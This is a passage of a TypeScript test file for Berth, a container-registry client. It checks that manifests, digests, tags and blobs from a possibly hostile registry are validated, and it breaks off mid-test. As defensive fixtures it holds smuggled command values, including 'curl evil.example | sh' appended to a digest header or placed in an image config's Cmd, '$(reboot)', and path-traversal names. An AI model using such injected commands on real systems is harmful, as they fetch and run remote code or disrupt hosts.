// The operations against a stub registry: what a registry sends is checked before it can reach a
// link or a copyable command.
import { createHash } from 'node:crypto';
import { describe, mock, test } from 'node:test';
import assert from 'node:assert/strict';
import { RegistryClient } from './index';
import type { RegistryContext, RequestScope } from '../context';
import { RegistryError } from '../errors';
import { MANIFEST_ACCEPT, MediaType, sha256Digest } from '../manifest';
import { d, enc } from '../test-fixtures';
import { REGISTRY as ORIGIN, basicUser, testContext, testRegistry, type Answer } from '../test-registry';
/** What a stub registry sees of a request: how much Berth reads of it, what it accepts, and who asks (Basic). */
type Asked = { maxBytes: number; accept?: string; authorization?: string; who?: string };

/**
 * A stub registry answering with `answer`. Anonymous where no credentials are given; with
 * credentials it wants Basic, so each request names its person (`who`).
 */
function registry(
  answer: (url: URL, method: string, request: Asked) => Answer,
  options: { host?: string; context?: RegistryContext; credentials?: { username: string; password: string }; scope?: RequestScope } = {},
): RegistryClient {
  const { transport } = testRegistry(
    (req) => answer(req.url, req.method, { maxBytes: req.maxBytes, accept: req.headers.accept, authorization: req.headers.authorization, who: basicUser(req) }),
    { handshake: { scheme: options.credentials ? 'basic' : 'none' } },
  );
  const context = options.context ?? testContext();
  const host = options.host ?? 'r.example';
  return new RegistryClient({
    host,
    baseUrl: host === 'docker.io' ? 'https://registry-1.docker.io' : ORIGIN,
    context,
    transport,
    credentials: options.credentials,
    scope: options.scope,
  });
}

const badResponse = (e: unknown) => e instanceof RegistryError && e.code === 'BAD_RESPONSE';

// ---- people, images, and a registry holding them -------------------------------------------------

const alice = { username: 'alice', password: 'a' };
const bob = { username: 'bob', password: 'b' };
const carol = { username: 'carol', password: 'c' };
const mallory = { username: 'mallory', password: 'm' };
const isCode = (code: string) => (e: unknown) => e instanceof RegistryError && e.code === code;
const failsWith = (code: string, words: string | RegExp) => (e: unknown) =>
  isCode(code)(e) && (typeof words === 'string' ? (e as Error).message.includes(words) : words.test((e as Error).message));

/** A runnable image: its manifest, its config and their digests. */
function image(name: string) {
  const config = enc({ architecture: 'arm64', os: 'linux', variant: 'v8', created: '2026-02-03T04:05:06Z', config: {} });
  const manifest = enc({
    schemaVersion: 2,
    mediaType: MediaType.OciManifest,
    config: { mediaType: MediaType.OciConfig, digest: sha256Digest(config), size: config.length },
    layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: d('1'), size: 1000 }],
    annotations: { name },
  });
  return { manifest, config, digest: sha256Digest(manifest), configDigest: sha256Digest(config) };
}

/**
 * A registry holding `manifests` (by digest, and by the tags in `tags`) and `blobs`, in any
 * repository; `denied` names the people it refuses (403). Every request after the ping is recorded
 * in `seen` as "METHOD path". `as(credentials)` is another person's client of the same server.
 */
function store(options: {
  manifests?: Buffer[];
  blobs?: Buffer[];
  tags?: Record<string, string>;
  denied?: string[];
  host?: string;
  headers?: Record<string, string>;
  context?: RegistryContext;
}) {
  const context = options.context ?? testContext();
  const manifests = new Map((options.manifests ?? []).map((b) => [sha256Digest(b), b]));
  const blobs = new Map((options.blobs ?? []).map((b) => [sha256Digest(b), b]));
  const tags = new Map(Object.entries(options.tags ?? {}));
  const seen: string[] = [];
  const answer = (url: URL, method: string, req: Asked): Answer => {
    seen.push(`${method} ${url.pathname}`);
    if (req.who !== undefined && options.denied?.includes(req.who)) return { status: 403, body: { errors: [{ code: 'DENIED', message: 'no' }] } };
    const ref = url.pathname.split('/').pop() ?? '';
    if (url.pathname.includes('/blobs/')) {
      const blob = blobs.get(ref);
      if (!blob) return { status: 404, body: { errors: [{ code: 'BLOB_UNKNOWN' }] } };
      return { headers: { 'content-length': String(blob.length) }, body: method === 'HEAD' ? undefined : blob };
    }
    const digest = ref.includes(':') ? ref : tags.get(ref);
    const bytes = digest === undefined ? undefined : manifests.get(digest);
    if (digest === undefined || !bytes) return { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } };
    const type = (JSON.parse(bytes.toString()) as { mediaType?: string }).mediaType ?? MediaType.OciManifest;
    const headers = { 'content-type': type, 'docker-content-digest': digest, 'content-length': String(bytes.length), ...options.headers };
    return { headers, body: method === 'HEAD' ? undefined : bytes };
  };
  const as = (credentials?: { username: string; password: string }) => registry(answer, { context, credentials, host: options.host });
  return { client: as(), as, seen, context, answer };
}

describe('names a registry sends', () => {
  test('catalog entries that are not repository names are left out and counted', async () => {
    const client = registry(() => ({ body: { repositories: ['ok/app', 'x/../../..//evil.example/p', 'UPPER/case', 'a b', 42, null, 'team/api'] } }));
    const page = await client.listRepositories();
    assert.deepEqual(page.items, ['ok/app', 'team/api']);
    assert.equal(page.invalid, 4);
  });

  test('tags that are not tags are left out and counted', async () => {
    const client = registry(() => ({ body: { name: 'a', tags: ['1.0', '../x', 'a b', `${'t'.repeat(129)}`, 'latest', null] } }));
    const page = await client.listTags('a');
    assert.deepEqual(page.items, ['1.0', 'latest']);
    assert.equal(page.invalid, 3);
  });

  test('a Docker-Content-Digest that is not a digest never becomes the digest shown', async () => {
    const client = registry(() => ({ headers: { 'docker-content-digest': 'sha256:x; curl evil.example | sh', 'content-type': MediaType.OciManifest } }));
    await assert.rejects(client.headManifest('a', 'latest'), badResponse);
  });

  test('a digest of endless length or of another algorithm is refused, and nothing of it is kept', async () => {
    const context = testContext();
    const long = `blake3:${'ab'.repeat(8000)}`;
    const client = registry(() => ({ headers: { 'docker-content-digest': long, 'content-type': MediaType.OciManifest } }), { context });
    for (let i = 0; i < 20; i++) await assert.rejects(client.describeTag('a', `t${i}`), badResponse);
    assert.equal(context.tagDigests.size, 0);
    const sha384 = registry(() => ({ headers: { 'docker-content-digest': `sha384:${'a'.repeat(96)}`, 'content-type': MediaType.OciManifest } }));
    await assert.rejects(sha384.headManifest('a', 'latest'), badResponse);
  });

  test('a legacy manifest whose digest header is not a digest is refused', async () => {
    const legacy = { schemaVersion: 1, name: 'a', tag: 'old', architecture: 'amd64', fsLayers: [] };
    const client = registry(() => ({ headers: { 'docker-content-digest': '$(reboot)', 'content-type': MediaType.DockerSchema1Signed }, body: legacy }));
    await assert.rejects(client.getManifest('a', 'old'), badResponse);
  });

  test('an index naming a descriptor by something that is not a digest is refused', async () => {
    const index = {
      schemaVersion: 2,
      mediaType: MediaType.OciIndex,
      manifests: [
        { mediaType: MediaType.OciManifest, digest: 'sha256:../../x', size: 1 },
        { mediaType: MediaType.OciManifest, digest: d('a'), size: 1 },
      ],
    };
    const client = registry(() => ({ headers: { 'content-type': MediaType.OciIndex }, body: index }));
    await assert.rejects(client.getManifest('a', 'latest'), badResponse);
  });
});

describe('content that does not match its digest', () => {
  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
  const bytes = enc(manifest);
  const actual = sha256Digest(bytes);
  const answer = (digest: string) => registry(() => ({ headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: bytes }));

  test('a tag whose Docker-Content-Digest is not the digest of its bytes is refused, naming both', async () => {
    await assert.rejects(
      answer(d('e')).getManifest('a', 'latest'),
      (e: unknown) => badResponse(e) && (e as Error).message.includes(`(${d('e')}) that is not the digest of its content (${actual})`),
    );
  });

  test('a tag whose Docker-Content-Digest is its bytes’ digest shows it', async () => {
    assert.equal((await answer(actual).getManifest('a', 'latest')).digest, actual);
  });

  test('a manifest fetched by digest whose bytes hash to another is refused', async () => {
    await assert.rejects(
      answer(d('a')).getManifest('a', d('a')),
      (e: unknown) => badResponse(e) && /does not match the digest asked for .*tell the registry's owner/.test((e as Error).message),
    );
  });
});

describe('what a registry says a tag resolves to, on a GET', () => {
  const manifest = { schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('c'), size: 2 }, layers: [] };
  const bytes = enc(manifest);
  const notADigest = (e: unknown) => badResponse(e) && /sent a Docker-Content-Digest that is not a digest; Berth does not use it\.$/.test((e as Error).message);
  const notItsContent = (e: unknown) => badResponse(e) && /that is not the digest of its content/.test((e as Error).message);
  /** A registry other than Docker Hub, so a tag is fetched with a GET; `head405` also refuses HEAD. */
  const tagged = (digest: string, options: { head405?: boolean } = {}) => {
    const context = testContext();
    const methods: string[] = [];
    const client = registry(
      (_url, method) => {
        methods.push(method);
        if (method === 'HEAD' && options.head405) return { status: 405 };
        return { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest }, body: method === 'HEAD' ? undefined : bytes };
      },
      { context },
    );
    return { client, context, methods };
  };

  const invalid: Array<[string, string]> = [
    ['too short', 'sha256:zz'],
    ['upper-case hex', `sha256:${'A'.repeat(64)}`],
    ['another algorithm, 15 KB long', `blake3:${'ab'.repeat(7500)}`],
    ['an algorithm Berth does not verify', `sha384:${'a'.repeat(96)}`],
    ['with a command after it', `${sha256Digest(bytes)}; curl evil.example | sh`],
  ];
  for (const [what, header] of invalid) {
    test(`a Docker-Content-Digest that is not a digest (${what}) is refused, and nothing of the manifest is kept`, async () => {
      const get = tagged(header);
      await assert.rejects(get.client.getManifest('a', 'latest'), notADigest);
      assert.deepEqual(get.methods, ['GET']);
      assert.equal(get.context.content.size, 0);
      // A registry that refuses HEAD is asked with a GET: the same check.
      const head = tagged(header, { head405: true });
      await assert.rejects(head.client.headManifest('a', 'latest'), notADigest);
      assert.deepEqual(head.methods, ['HEAD', 'GET']);
      assert.equal(head.context.content.size, 0);
    });
  }

  for (const algorithm of ['sha256', 'sha512'] as const) {
    const other = `${algorithm}:${'e'.repeat(algorithm === 'sha256' ? 64 : 128)}`;
    const own = `${algorithm}:${createHash(algorithm).update(bytes).digest('hex')}`;

    test(`a ${algorithm} Docker-Content-Digest of other bytes is refused, on a GET and after a refused HEAD`, async () => {
      const get = tagged(other);
      await assert.rejects(get.client.getManifest('a', 'latest'), notItsContent);
      assert.equal(get.context.content.size, 0);
      await assert.rejects(tagged(other, { head405: true }).client.headManifest('a', 'latest'), notItsContent);
    });

    test(`a ${algorithm} Docker-Content-Digest of its own bytes is the digest shown`, async () => {
      const { client } = tagged(own);
      const m = await client.getManifest('a', 'latest');
      assert.equal(m.digest, own);
      assert.equal(m.headers.dockerContentDigest, own);
      assert.equal((await tagged(own, { head405: true }).client.headManifest('a', 'latest')).digest, own);
    });
  }
});

describe('blobs that do not match their digest', () => {
  const config = enc({ architecture: 'amd64', os: 'linux', config: {} });
  const tampered = enc({ architecture: 'amd64', os: 'linux', config: { Cmd: ['sh', '-c', 'curl evil.example | sh'] } });
  const mismatch = (digest: string) => (e: unknown) =>
    badResponse(e) && (e as Error).message.includes(`returned a blob whose content does not match its digest ${digest}; Berth does not show it.`);

  for (const algorithm of ['sha256', 'sha512'] as const) {
    const digest = `${algorithm}:${createHash(algorithm).update(config).digest('hex')}`;

    test(`a ${algorithm} config blob whose bytes hash to another digest is refused by every way of reading it, and not kept`, async () => {
      const context = testContext();
      let body = tampered;
      const client = registry(() => ({ body }), { context });
      await assert.rejects(client.getBlob('a', digest), mismatch(digest));
      await assert.rejects(client.getBlobDocument('a', digest), mismatch(digest));
      await assert.rejects(client.getJsonDocument('a', digest), mismatch(digest));
      assert.equal(context.content.size, 0);
      body = config;
      assert.deepEqual(await client.getBlob('a', digest), config, 'the true bytes are read');
      assert.equal(context.content.size, 1);
    });
  }
});

describe('lists that are not lists', () => {
  test('a web page for a tag list says what came and what to check', async () => {
    const client = registry(() => ({ headers: { 'content-type': 'text/html' }, body: Buffer.from('<!DOCTYPE html><html><title>Sign in</title></html>') }));
    await assert.rejects(
      client.listTags('team/app'),
      (e: unknown) =>
        badResponse(e) &&
        /list of tags of team\/app with something that is not JSON \(a web page\)\. Check that r\.example is the registry itself/.test((e as Error).message),
    );
  });

  test('JSON that is not a catalog says so', async () => {
    const client = registry(() => ({ body: { repositories: 'all of them' } }));
    await assert.rejects(
      client.listRepositories(),
      (e: unknown) => badResponse(e) && /list of repositories with something that is not a list of repositories/.test((e as Error).message),
    );
  });
});

test('a cursor cannot ask the registry for more than 1000 entries a page', async () => {
  const asked: string[] = [];
  const client = registry((url) => {
    asked.push(url.searchParams.get('n') ?? '');
    return { body: { name: 'a', tags: ['1.0'] } };
  });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=100000000&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=lots&last=x' });
  await client.listTags('a', { cursor: '/v2/a/tags/list?n=50&last=x' });
  await client.listTags('a', { n: 5000 });
  assert.deepEqual(asked, ['1000', '1000', '50', '1000']);
});

describe('deleting', () => {
  const digest = d('c');
  const deletes = (seen: Array<{ method: string; path: string }>) => seen.filter((r) => r.method === 'DELETE').map((r) => r.path.split('/').pop());
  /** A registry answering DELETE with `onDelete`, and recording every request. */
  function deleting(onDelete: (reference: string) => { status?: number; body?: unknown }) {
    const seen: Array<{ method: string; path: string }> = [];
    const client = registry((url, method) => {
      seen.push({ method, path: url.pathname });
      if (method === 'DELETE') return onDelete(url.pathname.split('/').pop() ?? '');
      return { status: 404, body: { errors: [{ code: 'MANIFEST_UNKNOWN' }] } };
    });
    return { client, seen };
  }
  const error = (code: string) => ({ errors: [{ code, message: code.toLowerCase() }] });

  const kinds: Array<[string, (reference: string) => { status?: number; body?: unknown }, string]> = [
    ['distribution 2.x: a tag DELETE is 400 DIGEST_INVALID', () => ({ status: 400, body: error('DIGEST_INVALID') }), 'digest'],
    ['OCI 1.1 / distribution 3: an unknown tag is 404 MANIFEST_UNKNOWN', () => ({ status: 404, body: error('MANIFEST_UNKNOWN') }), 'tag'],
    [
      'tag deletion off, digest deletion on',
      (ref) => (ref.startsWith('sha256:') ? { status: 404, body: error('MANIFEST_UNKNOWN') } : { status: 405, body: error('UNSUPPORTED') }),
      'digest',
    ],
    ['a tag DELETE answered 202, nothing said', () => ({ status: 202 }), 'tag'],
    ['an unknown tag, 404 without a body', () => ({ status: 404 }), 'tag'],
    ['tag deletion off, a 405 without a body', (ref) => (ref.startsWith('sha256:') ? { status: 404 } : { status: 405 }), 'digest'],
    [
      'tag deletion off, said as UNSUPPORTED under another status',
      (ref) => (ref.startsWith('sha256:') ? { status: 202 } : { status: 403, body: error('UNSUPPORTED') }),
      'digest',
    ],
  ];
  for (const [name, onDelete, kind] of kinds) {
    test(`how a registry deletes, learnt from a tag nobody made: ${name}`, async () => {
      const { client, seen } = deleting(onDelete);
      assert.equal(await client.deletionKind('team/app'), kind);
      // Only names that cannot be anybody's content were deleted: a random tag, the all-zero digest.
      for (const ref of deletes(seen)) assert.match(ref ?? '', /^(berth-probe-[0-9a-f]{24}|sha256:0{64})$/);
    });
  }

  const refusals: Array<[string, number, string, string]> = [
    [
      'deletion turned off (405 UNSUPPORTED)',
      405,
      'UNSUPPORTED',
      'r.example has deletion turned off: it answers every DELETE with 405 UNSUPPORTED. Nothing was deleted.',
    ],
    ['no delete right (403 DENIED)', 403, 'DENIED', 'You may not delete from team/app on r.example'],
    ['no delete right, anonymous (401)', 401, 'UNAUTHORIZED', 'r.example needs you to sign in to delete from team/app.'],
    ['no such repository (404 NAME_UNKNOWN)', 404, 'NAME_UNKNOWN', 'is not on r.example (any more): nothing was deleted.'],
  ];
  for (const [name, status, code, words] of refusals) {
    test(`a refusal is explained before anything is deleted: ${name}`, async () => {
      const { client, seen } = deleting(() => ({ status, body: error(code) }));
      await assert.rejects(client.deletionKind('team/app'), failsWith(code, words));
      assert.equal(deletes(seen).length, status === 405 ? 2 : 1, 'nothing more is tried');
      await assert.rejects(client.deleteManifest('team/app', digest), isCode(code));
    });
  }

  test('a tag alone is deleted only where the registry is known to delete tags alone', async () => {
    const v2 = deleting(() => ({ status: 400, body: error('DIGEST_INVALID') }));
    await assert.rejects(
      v2.client.deleteTag('team/app', 'v1'),
      (e: unknown) => isCode('UNSUPPORTED')(e) && (e as Error).message.includes('Nothing was deleted'),
    );
    assert.ok(!deletes(v2.seen).includes('v1'), 'no DELETE by tag where tags go with their manifest');

    const oci = taggedRegistry({ removesManifest: false });
    assert.deepEqual(await oci.client.deleteTag('team/app', 'v1'), { digest, manifestKept: true });
    assert.equal(deletes(oci.seen).at(-1), 'v1');
  });

  /** An OCI 1.1 registry where v1 points at `digest`; deleting v1 may take the manifest with it. */
  function taggedRegistry(options: { removesManifest: boolean; tagDelete?: { status: number; body?: unknown } }) {
    const seen: Array<{ method: string; path: string }> = [];
    let tagGone = false;
    let manifestGone = false;
    const client = registry((url, method) => {
      seen.push({ method, path: url.pathname });
      const ref = url.pathname.split('/').pop() ?? '';
      if (method === 'DELETE') {
        if (ref === 'v1') {
          if (options.tagDelete) return options.tagDelete;
          tagGone = true;
          manifestGone = options.removesManifest;
          return { status: 202 };
        }
        return { status: 404, body: error('MANIFEST_UNKNOWN') }; // the probe: a tag nobody made
      }
      const exists = ref === 'v1' ? !tagGone : ref === digest ? !manifestGone : false;
      return exists
        ? { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest } }
        : { status: 404, body: error('MANIFEST_UNKNOWN') };
    });
    return { client, seen };
  }

  test('after deleting a tag alone, the manifest is looked up again: a registry that removed it too is caught', async () => {
    const { client, seen } = taggedRegistry({ removesManifest: true });
    assert.deepEqual(await client.deleteTag('team/app', 'v1'), { digest, manifestKept: false });
    const after = seen.slice(seen.findIndex((r) => r.method === 'DELETE' && r.path.endsWith('/v1')) + 1);
    assert.deepEqual(after, [{ method: 'HEAD', path: `/v2/team/app/manifests/${digest}` }], 'one HEAD of the digest after the delete');
  });

  test('a tag delete that fails makes Berth ask the registry again how it deletes, next time', async () => {
    const { client, seen } = taggedRegistry({ removesManifest: false, tagDelete: { status: 500, body: error('UNKNOWN') } });
    await assert.rejects(client.deleteTag('team/app', 'v1'));
    await assert.rejects(client.deleteTag('team/app', 'v1'));
    const probes = deletes(seen).filter((ref) => ref?.startsWith('berth-probe-'));
    assert.equal(probes.length, 2, 'the second delete probed again instead of trusting what was learnt');
  });

  test('a deleted manifest is no longer served from the caches', async () => {
    const body = enc({ schemaVersion: 2, mediaType: MediaType.OciManifest, config: { mediaType: MediaType.OciConfig, digest: d('e'), size: 2 }, layers: [] });
    const real = `sha256:${createHash('sha256').update(body).digest('hex')}`;
    let gone = false;
    const client = registry((_url, method) => {
      if (method === 'DELETE') {
        gone = true;
        return { status: 202 };
      }
      if (gone) return { status: 404, body: error('MANIFEST_UNKNOWN') };
      return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': real }, body };
    });
    assert.equal((await client.getManifest('team/app', real)).digest, real);
    await client.deleteManifest('team/app', real);
    await assert.rejects(client.getManifest('team/app', real), isCode('MANIFEST_UNKNOWN'));
  });

  test('a DELETE counts as done only when answered 2xx: a redirect is not a deletion', async () => {
    for (const status of [200, 202, 204]) await deleting(() => ({ status })).client.deleteManifest('team/app', digest);
    for (const status of [300, 307]) await assert.rejects(deleting(() => ({ status })).client.deleteManifest('team/app', digest), RegistryError, `${status}`);
  });

  test('a manifest already gone is said so, naming it', async () => {
    await assert.rejects(
      deleting(() => ({ status: 404, body: error('MANIFEST_UNKNOWN') })).client.deleteManifest('team/app', digest),
      failsWith('MANIFEST_UNKNOWN', `team/app@${digest} is not on r.example (any more): nothing was deleted.`),
    );
  });

  /** A registry that deletes tags alone (its probe is a 404) and answers a tag DELETE with `onTagDelete`; every tag points at `digest`. */
  function tagDeleting(onTagDelete: () => { status: number; body?: unknown }) {
    const seen: Array<{ method: string; path: string }> = [];
    const client = registry((url, method) => {
      seen.push({ method, path: url.pathname });
      const ref = url.pathname.split('/').pop() ?? '';
      if (method === 'DELETE') return ref.startsWith('berth-probe-') ? { status: 404, body: error('MANIFEST_UNKNOWN') } : onTagDelete();
      return { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciManifest } };
    });
    return { client, seen, probes: () => deletes(seen).filter((ref) => ref?.startsWith('berth-probe-')).length };
  }

  test('a registry thought to delete tags alone that refuses one (400) is known from then on to delete by digest only', async () => {
    const { client, seen } = tagDeleting(() => ({ status: 400, body: error('DIGEST_INVALID') }));
    const alone = failsWith('UNSUPPORTED', 'r.example cannot delete a tag alone: deleting removes the manifest and every tag on it. Nothing was deleted.');
    await assert.rejects(client.deleteTag('team/app', 'v1'), alone);
    const sent = deletes(seen).length;
    await assert.rejects(client.deleteTag('team/app', 'v2'), alone);
    assert.equal(deletes(seen).length, sent, 'no DELETE at all the second time');
  });

  const tagRefusals: Array<[string, { status: number; body?: unknown }, string, string]> = [
    ['already gone', { status: 404, body: error('MANIFEST_UNKNOWN') }, 'MANIFEST_UNKNOWN', 'team/app:v1 is not on r.example (any more)'],
    ['no delete right', { status: 403, body: error('DENIED') }, 'DENIED', 'may not delete from team/app'],
  ];
  for (const [what, answer, code, words] of tagRefusals) {
    test(`a tag delete refused (${what}) says so, naming the tag`, async () => {
      await assert.rejects(tagDeleting(() => answer).client.deleteTag('team/app', 'v1'), failsWith(code, words));
    });
  }

  test('how a registry deletes is trusted for ten minutes, then asked again', async (t) => {
    t.after(() => mock.timers.reset());
    mock.timers.enable({ apis: ['Date'], now: Date.parse('2026-03-01T00:00:00Z') });
    const { client, probes } = tagDeleting(() => ({ status: 202 }));
    await client.deleteTag('team/app', 'v1');
    mock.timers.tick(10 * 60_000 - 1);
    await client.deleteTag('team/app', 'v2');
    assert.equal(probes(), 1);
    mock.timers.tick(1);
    await client.deleteTag('team/app', 'v3');
    assert.equal(probes(), 2);
  });

  for (const removesManifest of [false, true]) {
    test(`after deleting a tag alone, the cached manifest is ${removesManifest ? 'dropped, the registry having removed it too' : 'still served, the registry having kept it'}`, async () => {
      const img = image('tagged');
      let tagGone = false;
      let manifestGone = false;
      const seen: string[] = [];
      const client = registry((url, method) => {
        const ref = url.pathname.split('/').pop() ?? '';
        seen.push(method);
        if (method === 'DELETE') {
          if (ref !== 'v1') return { status: 404, body: error('MANIFEST_UNKNOWN') }; // the probe
          [tagGone, manifestGone] = [true, removesManifest];
          return { status: 202 };
        }
        if (ref === 'v1' ? tagGone : ref !== img.digest || manifestGone) return { status: 404, body: error('MANIFEST_UNKNOWN') };
        return { headers: { 'docker-content-digest': img.digest, 'content-type': MediaType.OciManifest }, body: method === 'GET' ? img.manifest : undefined };
      });
      await client.describeDigest('team/app', img.digest);
      assert.deepEqual(await client.deleteTag('team/app', 'v1'), { digest: img.digest, manifestKept: !removesManifest });
      seen.length = 0;
      if (removesManifest) {
        await assert.rejects(client.getManifest('team/app', img.digest), isCode('MANIFEST_UNKNOWN'));
        await assert.rejects(client.describeDigest('team/app', img.digest), isCode('MANIFEST_UNKNOWN'));
      } else {
        assert.equal((await client.getManifest('team/app', img.digest)).digest, img.digest);
        assert.equal((await client.describeDigest('team/app', img.digest)).digest, img.digest);
        assert.deepEqual(seen, []);
      }
    });
  }
});

test('a tag row trusts what its tag pointed at for a while; a fresh ask sees the tag moved', async () => {
  const sha = (b: Buffer) => `sha256:${createHash('sha256').update(b).digest('hex')}`;
  const config = enc({ created: '2025-01-01T00:00:00Z', architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [] }, config: {} });
  const manifest = (name: string) =>
    enc({
      schemaVersion: 2,
      mediaType: MediaType.OciManifest,
      config: { mediaType: MediaType.OciConfig, digest: sha(config), size: config.length },
      layers: [],
      annotations: { name },
    });
  const bodies = new Map([manifest('old'), manifest('new')].map((b) => [sha(b), b]));
  const [before, after] = [...bodies.keys()];
  let current = before ?? '';
  let heads = 0;
  const client = registry((url, method) => {
    const ref = url.pathname.split('/').at(-1) ?? '';
    if (url.pathname.includes('/blobs/')) return { body: config };
    if (method === 'HEAD') {
      heads++;
      return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': current } };
    }
    return { headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': ref }, body: bodies.get(ref) };
  });
  assert.equal((await client.describeTag('team/app', 'v1')).digest, before);
  current = after ?? '';
  assert.equal((await client.describeTag('team/app', 'v1')).digest, before, 'the row within its 30 s');
  assert.equal(heads, 1);
  assert.equal((await client.describeTag('team/app', 'v1', { fresh: true })).digest, after, 'asked afresh: the tag has moved');
  assert.equal(heads, 2);
  assert.equal((await client.describeTag('team/app', 'v1')).digest, after, 'and the rows now know it');
});

describe('bounds a hostile registry cannot push Berth past', () => {
  const notADocument = (e: unknown) => e instanceof RegistryError && e.code === 'NOT_A_DOCUMENT' && e.status === 422;
  const blobOf = (bytes: Buffer) => ({ digest: sha256Digest(bytes), bytes });

  test('a blob shown as a document is read no further than 1 MiB: a larger one is refused, not turned into text', async () => {
    const layer = blobOf(Buffer.alloc(2 * 1024 * 1024, 7));
    const asked: number[] = [];
    // A registry whose HEAD does not say the size: the GET is read up to a megabyte.
    const client = registry((_url, method, req) => (method === 'GET' && asked.push(req.maxBytes), method === 'HEAD' ? {} : { body: layer.bytes }));
    await assert.rejects(client.getJsonDocument('a', layer.digest), (e: unknown) => notADocument(e) && /larger than 1 MiB/.test((e as Error).message));
    assert.deepEqual(asked, [1024 * 1024], 'asked the transport for a megabyte at most');
  });

  test('a layer whose HEAD says its size is refused without reading it, and the same person asking again costs nothing', async () => {
    const digest = d('9');
    const seen: string[] = [];
    const client = registry(
      (_url, method) => (seen.push(method), method === 'HEAD' ? { headers: { 'content-length': String(8 * 1024 * 1024) } } : { body: Buffer.alloc(8) }),
    );
    await assert.rejects(client.getJsonDocument('a', digest), notADocument);
    await assert.rejects(client.getJsonDocument('a', digest), notADocument);
    assert.deepEqual(seen, ['HEAD']);
  });

  test('a blob that is not UTF-8 JSON is not a document (a layer, a binary)', async () => {
    for (const bytes of [Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0xff, 0xfe]), Buffer.from('plain text, not JSON'), Buffer.from('{"a": "\xff"}', 'latin1')]) {
      const blob = blobOf(bytes);
      const client = registry(() => ({ body: blob.bytes }));
      await assert.rejects(client.getJsonDocument('a', blob.digest), notADocument);
    }
  });

  test('an image config is a document', async () => {
    const config = blobOf(enc({ architecture: 'amd64', os: 'linux', config: {} }));
    const client = registry(() => ({ body: config.bytes, headers: { 'content-type': 'application/octet-stream' } }));
    const document = await client.getJsonDocument('a', config.digest);
    assert.equal(document.bytes.toString(), config.bytes.toString());
  });

  test('a large blob already in the cache is refused as a document without being read again', async () => {
    const big = blobOf(enc({ padding: 'x'.repeat(2 * 1024 * 1024) }));
    let gets = 0;
    const client = registry((_url, method) => (method === 'GET' && gets++, { body: big.bytes }));
    await client.getBlob('a', big.digest); // the config route reads configs up to 8 MiB
    await assert.rejects(client.getJsonDocument('a', big.digest), notADocument);
    assert.equal(gets, 1);
  });

  /** An index of `n` platform images, each served with a config; counts the manifest reads. */
  function wideIndex(n: number, options: { host?: string } = {}) {
    const children = Array.from({ length: n }, (_, i) => {
      const config = enc({ architecture: 'amd64', os: 'linux', created: '2026-01-01T00:00:00Z', variant: `v${i}` });
      const manifest = enc({
        schemaVersion: 2,
        mediaType: MediaType.OciManifest,
        config: { mediaType: MediaType.OciConfig, digest: sha256Digest(config), size: config.length },
        layers: [],
      });
      return { manifest, config, digest: sha256Digest(manifest) };
    });
    const index = enc({
      schemaVersion: 2,
      mediaType: MediaType.OciIndex,
      manifests: children.map((c, i) => ({
        mediaType: MediaType.OciManifest,
        digest: c.digest,
        size: c.manifest.length,
        platform: { os: 'linux', architecture: 'amd64', variant: `v${i}` },
      })),
    });
    const byDigest = new Map<string, Buffer>(children.flatMap((c) => [[c.digest, c.manifest] as const, [sha256Digest(c.config), c.config] as const]));
    const reads = { manifests: 0, blobs: 0 };
    const client = registry(
      (url, method) => {
        const ref = url.pathname.split('/').pop() ?? '';
        if (url.pathname.includes('/manifests/')) {
          if (method === 'GET') reads.manifests++;
          if (ref === sha256Digest(index)) return { body: index, headers: { 'content-type': MediaType.OciIndex, 'docker-content-digest': ref } };
          const bytes = byDigest.get(ref);
          return bytes ? { body: bytes, headers: { 'content-type': MediaType.OciManifest, 'docker-content-digest': ref } } : { status: 404 };
        }
        reads.blobs++;
        return { body: byDigest.get(ref) ?? Buffer.alloc(0) };
      },
      { host: options.host },
    );
    return { client, reads, digest: sha256Digest(index) };
  }

  test('an index summary reads 64 platform images at most, and counts the rest as not read', async () => {
    const { client, reads, digest } = wideIndex(200);
    const summary = await client.describeDigest('a', digest);
    assert.equal(summary.platforms.length, 64, 'a row’s worth of platforms is listed…');
    assert.equal(summary.unlisted, 136, '…and the others counted');
    assert.equal(summary.platforms.filter((p) => p.size !== undefined).length, 64);
    assert.equal(summary.unread, 136);
    assert.equal(reads.manifests, 1 + 64);
    assert.equal(reads.blobs, 64);
  });

  test('where every manifest read is a pull (Docker Hub), nothing is read that the person did not ask for', async () => {
    const { client, reads, digest } = wideIndex(3, { host: 'docker.io' });
    await assert.rejects(
      client.describeDigest('library/a', digest),
      (e: unknown) => e instanceof RegistryError && e.code === 'COSTS_A_PULL' && /counts as a pull/.test(e.message),
    );
    assert.equal(reads.manifests, 0, 'not even the index');
    // Asked for (pulls): the index itself, but not each of its platform images.
    const summary = await client.describeDigest('library/a', digest, { pulls: true });
    assert.equal(reads.manifests, 1);
    assert.equal(summary.unread, 3);
    // What is in the server's cache costs no pull: asked again, it is answered (a HEAD is free).
    assert.equal((await client.describeDigest('library/a', digest)).digest, digest);
    assert.equal(reads.manifests, 1);
  });

  test('a summary being made for one person is not handed to another when it fails for the first (their refusal names them), nor made again for one who has left', async () => {
    const index = enc({ schemaVersion: 2, mediaType: MediaType.OciIndex, manifests: [] });
    const digest = sha256Digest(index);
    const context = testContext();
    let release: () => void = () => {};
    const gate = new Promise<void>((resolve) => (release = resolve));
    const client = (who: string, signal?: AbortSignal) => {
      const { transport } = testRegistry(
        async (req): Promise<Answer> => {
          if (req.method === 'HEAD') return { headers: { 'docker-content-digest': digest, 'content-type': MediaType.OciIndex } };
          await gate;
          return who === 'mallory'
